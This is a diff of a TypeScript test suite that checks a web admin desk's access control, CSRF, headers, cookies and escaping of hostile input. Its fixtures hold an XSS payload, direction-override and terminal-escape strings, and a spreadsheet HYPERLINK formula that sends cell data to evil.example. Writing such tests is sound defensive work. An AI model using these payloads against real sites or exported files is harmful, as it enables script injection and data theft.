@@ -1,4 +1,5 @@
 import { orThrow } from '@site/api/database/database-handle.ts';
+import { createDraftStore } from '@site/api/blogs/draft-store.ts';
 import { createHandlingStore } from '@site/api/inbox/handling-store.ts';
 import { seenVersion } from '@site/api/testing/seen-version.ts';
 import { createMailer } from '@site/api/notices/send-mail.ts';
@@ -18,6 +19,7 @@ import {
 import { testPreviews } from '../testing/open-test-service.ts';
 import { mailLinkBy } from './accounts/mail-link.ts';
 import { createSignInLink } from './accounts/sign-in-links.ts';
+import { whoIs } from './accounts/users.ts';
 import { deskSections } from './open-desk.ts';
 import { TOKEN_FIELD } from './page/desk-form.tsx';
 import { type DeskAction, may, roles } from './role.ts';
@@ -97,6 +99,8 @@ test('every route redirects signed-out visitors to the sign-in page', async () =
 
 test.each(roles)('%s can use the routes of that role and no others', async (role) => {
   const browser = await desk.signIn(role);
+  const { body: account } = await browser.get('/account');
+  expect(account.includes('href="/people"')).toBe(may({ roles: [role] }, 'manage-people'));
   for (const route of routes.filter(isForRoles)) {
     const { access } = route;
     if (access === 'open' || access === 'signed-in') continue;
@@ -107,7 +111,11 @@ test.each(roles)('%s can use the routes of that role and no others', async (role
     if (isAllowed || route.method === 'GET') continue;
     expect(body).not.toContain(TOKEN_FIELD);
     const [last] = await desk.registry.journal(1);
-    expect(last).toMatchObject({ what: `${nameOf(route)} at the desk`, outcome: 'refused' });
+    expect(last).toMatchObject({
+      who: whoIs(browser.user),
+      what: `${nameOf(route)} at the desk`,
+      outcome: 'refused',
+    });
   }
 });
 
@@ -142,14 +150,20 @@ test('every form requires the CSRF token of its session and the desk’s origin'
     const url = filled(route);
     const answers = [
       ...(await Promise.all(
-        ['', 'wrong', foreign].map((token) => everybody.post(url, { [TOKEN_FIELD]: token })),
+        ['', 'wrong', foreign, ['a', 'b']].map((token) =>
+          everybody.post(url, { [TOKEN_FIELD]: token }),
+        ),
       )),
       await everybody.post(url, {}, elsewhere),
       await everybody.post(url, {}, { ...elsewhere, origin: 'null' }),
+      await everybody.post(url, {}, { origin: 'https://www.pebble.example' }),
       await everybody.post(url, {}, { 'content-type': 'text/plain' }),
     ];
     const statuses = answers.map(({ status }) => status);
-    expect([nameOf(route), statuses]).toEqual([nameOf(route), [403, 403, 403, 403, 403, 415]]);
+    expect([nameOf(route), statuses]).toEqual([
+      nameOf(route),
+      [403, 403, 403, 403, 403, 403, 403, 415],
+    ]);
   }
   for (const route of routes.filter(
     ({ method, access }) => method === 'POST' && access === 'open',
@@ -163,12 +177,16 @@ test('every form requires the CSRF token of its session and the desk’s origin'
 test('no response can be framed, sniffed or cached', async () => {
   const everybody = await desk.signIn(...roles);
   const unreadable = await desk.server.inject({ url: '/%zz', headers: { host: 'x' } });
+  const nobody = await everybody.get('/people/nobody');
+  const nothing = await everybody.get('/nothing');
+  const long = await everybody.get(`/people/${'x'.repeat(500)}`);
+  const json = await everybody.post('/people/new', {}, { 'content-type': 'application/json' });
+  const large = await everybody.post('/people/new', { name: 'x'.repeat(300_000) });
+  const errors = [nobody, nothing, long, json, large];
+  expect(errors.map(({ status }) => status)).toEqual([404, 404, 400, 415, 413]);
   const answers: [string, Pick<DeskAnswer, 'headers'>][] = [
     ['unreadable address', unreadable],
-    ['nothing there', await everybody.get('/nothing')],
-    ['too long', await everybody.get(`/people/${'x'.repeat(500)}`)],
-    ['wrong type', await everybody.post('/people/new', {}, { 'content-type': 'text/plain' })],
-    ['too large', await everybody.post('/people/new', { name: 'x'.repeat(300_000) })],
+    ...errors.map((answer): [string, DeskAnswer] => [`error ${answer.status}`, answer]),
   ];
   for (const route of routes.filter(({ method }) => method === 'GET')) {
     answers.push([nameOf(route), await send(everybody, route)]);
@@ -214,24 +232,11 @@ test('every cookie is host-only, Secure and HttpOnly', async () => {
   }
 });
 
-test('forged forwarding headers do not evade the rate limit of links', async () => {
-  const statuses = [];
-  for (let times = 0; times < 22; times += 1) {
-    const headers = {
-      'x-forwarded-for': `203.0.113.${times}`,
-      forwarded: `for=203.0.113.${times}`,
-    };
-    const path = `/sign-in/link?token=${'A'.repeat(40)}${100 + times}`;
-    statuses.push((await desk.newBrowser().get(path, headers)).status);
-  }
-  expect(statuses.slice(20)).toEqual([429, 429]);
-});
-
 test('a form opened earlier has no effect once the user has lost the role or session', async () => {
   const operator = await desk.signIn('operator');
   const writer = await desk.signIn('writer', 'operator');
   const { id } = writer.user;
-  await writer.get('/people/new');
+  expect((await writer.get('/people/new')).status).toBe(200);
   await operator.get('/people');
   await operator.post(`/people/${id}/roles`, { roles: 'writer' });
   const fields = { name: 'Eve', email: 'eve@evil.example', roles: 'operator' };
@@ -259,6 +264,7 @@ test('NUL characters are removed or rejected, because PostgreSQL cannot store th
 
 /** Input that could disguise itself or break out of its context. */
 const hostile = {
+  markup: `"><img src=x onerror=alert(1)></textarea></title><script>alert(1)</script>'<b>`,
   'right to left': '\u202Egpj.exe\u2066<b>',
   'escape sequence': '\u001b[2J\u001b]0;x\u0007<b>',
   'a name of the prototype': '__proto__<b>',
@@ -268,11 +274,17 @@ const hostile = {
   'a formula': '=HYPERLINK("https://evil.example/?"&A1;"<b>")',
 };
 
+/** Markup that only input could have brought. */
+const BROKEN_OUT = /<b>|<img src=x|<script(?! defer)|<\/textarea><\/title>/;
+
 /** Text with direction overrides outside elements that isolate them. */
 function looseDirection(body: string): string[] {
   const isolated = body
-    .replaceAll(/<(bdi|title|option)\b[^>]*>[^<]*<\/\1>/g, '')
-    .replaceAll(/<p\b[^>]* dir="auto"[^>]*>[^<]*<\/p>/g, '');
+    .replaceAll(/<(bdi|title|option|textarea)\b[^>]*>[^<]*<\/\1>/g, '')
+    .replaceAll(
+      /<(p|div)\b[^>]* dir="auto"[^>]*>(?:[^<]|<\/?(?:del|ins|span)\b[^>]*>)*<\/\1>/g,
+      '',
+    );
   return isolated.match(/>[^<]*[\u202A-\u202E\u2066-\u2069][^<]*/g) ?? [];
 }
 
@@ -308,7 +320,7 @@ test.each(Object.entries(hostile))(
       bodies.push(page.body, person.body, (await clerk.get(url)).body);
     }
     for (const body of bodies) {
-      expect(body).not.toContain('<b>');
+      expect(body).not.toMatch(BROKEN_OUT);
       expect(looseDirection(body)).toEqual([]);
       for (const [mailto] of body.matchAll(/mailto:[^"]*/g)) expect(mailto).not.toMatch(/\s|bcc:/i);
     }
@@ -319,6 +331,24 @@ test.each(Object.entries(hostile))(
     expect(log).not.toContain(words.slice(0, 6));
   },
 );
+
+/** Writes a post with these words in every field, and returns its pages. */
+async function postOf(browser: TestBrowser, words: string): Promise<readonly string[]> {
+  await browser.get('/posts');
+  const { location = '' } = await browser.post('/posts');
+  const { body } = await browser.get(location);
+  const [, version = ''] = /name="version" value="(\d+)"/.exec(body) ?? [];
+  const names = ['title', 'slug', 'author', 'summary', 'alt', 'category', 'topic', 'thumbnail'];
+  const medical = ['medicalWriter', 'nextReview', 'sources', 'body'];
+  const fields = [...names, ...medical].map((name) => [name, words] as const);
+  await browser.post(location, { version, ...Object.fromEntries(fields) });
+  const [kept] = await createDraftStore(desk.database).versions(location.slice('/posts/'.length));
+  expect(kept?.source).toContain('title:');
+  const shown = await (await desk.signIn('clinician')).get(location);
+  expect(shown.body).not.toMatch(BROKEN_OUT);
+  const views = ['', '/publish', '/delete', '/history', `/history/${kept?.id}`];
+  return ['/posts', ...views.map((view) => `${location}${view}`)];
+}
 
 test.each(Object.entries(hostile))(
   'names and texts of colleagues are harmless: %s',
@@ -349,11 +379,12 @@ test.each(Object.entries(hostile))(
       `/inbox/${id}`,
       '/inbox',
       '/releases/history',
+      ...(await postOf(everybody, words)),
     ];
     for (const url of [...pages, '/releases/mfe-home', '/releases', '/approvals', '/inbox/log']) {
       const page = await everybody.get(url);
       expect([url, page.status]).toEqual([url, 200]);
-      expect(page.body).not.toContain('<b>');
+      expect(page.body).not.toMatch(BROKEN_OUT);
       expect([url, looseDirection(page.body)]).toEqual([url, []]);
     }
     const csv = await everybody.get('/inbox/export.csv?state=all');
